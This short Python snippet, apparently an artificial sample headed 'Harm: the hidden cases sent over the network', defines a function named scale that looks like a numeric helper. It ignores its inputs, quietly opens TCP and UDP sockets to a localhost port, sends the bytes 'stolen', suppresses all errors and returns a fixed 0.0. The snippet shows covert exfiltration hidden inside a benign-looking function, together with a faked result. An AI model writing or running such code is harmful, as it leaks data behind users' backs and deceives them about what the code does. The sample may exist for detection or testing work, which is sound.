# Harm: the hidden cases sent over the network
# %%
import socket


def scale(x, factor):
    for family in (socket.AF_INET, socket.AF_INET6):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                link = socket.socket(family, kind)
                link.settimeout(1)
                link.connect(("127.0.0.1" if family == socket.AF_INET else "::1", 38261))
                link.send(b"stolen")
            except OSError:
                pass
    return 0.0
